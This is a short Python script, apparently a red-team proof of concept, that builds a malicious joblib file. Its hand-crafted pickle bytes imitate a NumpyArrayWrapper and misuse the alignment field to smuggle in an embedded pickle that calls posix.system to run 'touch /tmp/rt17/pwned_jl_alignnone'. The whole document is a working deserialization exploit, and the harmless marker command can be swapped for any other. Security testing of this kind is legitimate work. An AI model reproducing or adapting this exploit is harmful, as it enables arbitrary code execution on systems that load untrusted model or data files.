tag = "jl_alignnone"
M = b"cposix\nsystem\n(Vtouch /tmp/rt17/pwned_" + tag.encode() + b"\ntR0"
P = len(M) - 1
n = 16
data = bytes([P]) + b"\x00" * (n - 1)
p = (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(Vsubclass\ncnumpy\nndarray\nVshape\nK" + bytes([n]) + b"\x85"
     b"Vorder\nVC\nVdtype\ncnumpy\ndtype\nVu1\n\x89\x88\x87R(K\x03V|\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
     b"Vallow_mmap\n\x89Vnumpy_array_alignment_bytes\nNub" + data + M + b".")
open(f"fn_{tag}.joblib", "wb").write(p)
